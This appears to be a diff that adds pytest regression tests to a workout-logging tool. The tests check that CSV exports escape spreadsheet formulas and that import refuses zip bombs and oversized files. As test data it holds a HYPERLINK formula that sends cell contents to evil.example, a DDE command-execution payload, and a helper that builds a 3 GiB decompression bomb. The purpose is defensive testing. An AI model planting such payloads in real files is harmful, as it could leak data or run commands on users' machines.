@@ -3,6 +3,7 @@ store, and malformed files rejected with row and column named while nothing is s
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
@@ -311,3 +312,96 @@ def test_handout_and_calendar_from_a_plan_file_touch_no_store(tmp_path: Path) ->
     assert not store.exists()
     code, _, err = _run("export", "ics", "--program", str(plan), "--db", db)
     assert code == 2 and "--start" in err
+
+
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+COMMAND_NOTE = "=cmd|' /C calc'!A0"
+
+
+def test_csv_exports_neutralise_formulas_and_import_them_back_as_typed(
+    db: str, tmp_path: Path, catalog: Catalog
+) -> None:
+    """Issue 14, defect 2: a note a spreadsheet would run must reach the file as text."""
+    engine = make_engine(db)
+    with SqlUnitOfWork(engine) as uow:
+        ann = uow.people.by_name("Ann").id
+    for note in (FORMULA_NOTE, COMMAND_NOTE):
+        performed = PerformedSet(variant_id="side-lying-abduction.cuff-ankle", side=Side.LEFT,
+                                 date=DAY0 + dt.timedelta(days=14), reps=10, load_kg=1.0,
+                                 note=note, felt_in="@glutes")
+        log_set(SqlUnitOfWork(engine), ann, performed, catalog, performed.date)
+    engine.dispose()
+    sets = tmp_path / "sets.csv"
+    history = tmp_path / "ann.zip"
+    assert _run("export", "csv", "--sets-only", "-o", str(sets), "--db", db)[0] == 0
+    assert _run("export", "csv", "-o", str(history), "--db", db)[0] == 0
+    inside = zipfile.ZipFile(history).read("sets.csv").decode("utf-8")
+    for text in (sets.read_text(encoding="utf-8"), inside):
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert "'" + FORMULA_NOTE in cells and "'" + COMMAND_NOTE in cells
+        assert "'@glutes" in cells
+        assert not [c for c in cells if c[:1] in ("=", "@", "+")]
+    assert _run("import", str(history), "--name", "Ann again", "--db", db)[0] == 0
+    engine = make_engine(db)
+    with SqlUnitOfWork(engine) as uow:
+        back = uow.sets.recent(uow.people.by_name("Ann again").id)
+    engine.dispose()
+    assert {s.performed.note for s in back} >= {FORMULA_NOTE, COMMAND_NOTE}
+    assert {s.performed.felt_in for s in back if s.performed.note} == {"@glutes"}
+
+
+def _bomb(path: Path, member: str, size: int) -> None:
+    """A real glutemed zip whose ``member`` is replaced by ``size`` bytes of one repeated
+    row: deflate shrinks it about a thousandfold."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name in ("person.csv", "programs.csv", "program_items.csv", "sets.csv",
+                     "decisions.csv", "progression.csv"):
+            if name != member:
+                archive.writestr(name, "x\r\n")
+        with archive.open(member, "w", force_zip64=True) as out:
+            chunk = b"a" * (1 << 20)
+            for _ in range(size >> 20):
+                out.write(chunk)
+
+
+def test_import_refuses_a_zip_that_would_expand_past_the_limit_before_reading_it(
+    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Issue 14, defect 5: a 1 MB zip that expands to gigabytes is refused from its
+    directory, before a byte is decompressed; nothing is stored."""
+    bomb = tmp_path / "bomb.zip"
+    _bomb(bomb, "decisions.csv", 3 << 30)  # 3 GiB of 'a'
+    assert bomb.stat().st_size < 4 << 20
+    decompressed: list[int] = []
+    original_read = zipfile.ZipExtFile.read
+
+    def counting_read(self: zipfile.ZipExtFile, n: int = -1) -> bytes:
+        data = original_read(self, n)
+        decompressed.append(len(data))
+        return data
+
+    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
+    code, _, err = _run("import", str(bomb), "--db", db)
+    assert code == 2
+    assert "decisions.csv in the zip would expand to 3 GB" in err
+    assert "GLUTEMED_IMPORT_MAX_MB" in err
+    assert sum(decompressed) == 0  # refused from the zip's directory, nothing inflated
+    assert _people(db) == ["Ann"]
+
+
+def test_import_limits_the_total_of_the_members_and_a_plain_file(
+    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("GLUTEMED_IMPORT_MAX_MB", "1")
+    big = tmp_path / "big.zip"
+    with zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name in ("person.csv", "programs.csv", "program_items.csv", "sets.csv",
+                     "decisions.csv", "progression.csv"):
+            archive.writestr(name, "a" * 300_000)  # each under 1 MB, together 1.8 MB
+    code, _, err = _run("import", str(big), "--db", db)
+    assert code == 2 and "together" in err and "1 MB" in err
+    plain = tmp_path / "big.json"
+    plain.write_bytes(b"{" + b" " * (2 << 20) + b"}")
+    code, _, err = _run("import", str(plain), "--db", db)
+    assert code == 2 and "big.json" in err and "GLUTEMED_IMPORT_MAX_MB" in err
+    assert _people(db) == ["Ann"]
